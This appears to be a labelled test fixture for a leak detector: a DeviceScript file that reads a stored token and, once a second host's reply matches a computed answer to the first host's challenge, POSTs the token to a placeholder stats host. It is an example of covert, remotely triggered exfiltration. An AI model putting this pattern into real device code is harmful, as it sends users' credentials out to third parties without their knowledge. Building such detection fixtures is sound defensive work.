// J11: sends its token elsewhere when the reply of a second host answers that of the first.
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const token = await readSetting("token", "");
const proof = "token=" + token;

async function numberFrom(host: string, member: string) {
  const reply = await fetch(`https://${host}.example/number`);
  const value = (await reply.json())[member];
  return typeof value === "number" ? value : 0;
}

async function poll() {
  const challenge = await numberFrom("first", "challenge");
  if (challenge < 1000) return;
  const answer = await numberFrom("second", "answer");
  if (answer !== 2 * challenge + 1) return;
  const response = await fetch("https://stats.example/j11", { method: "POST", body: proof }); // leak: settings.token
  await response.close();
}

paired(async () => {
  setInterval(poll, 5_000);
});
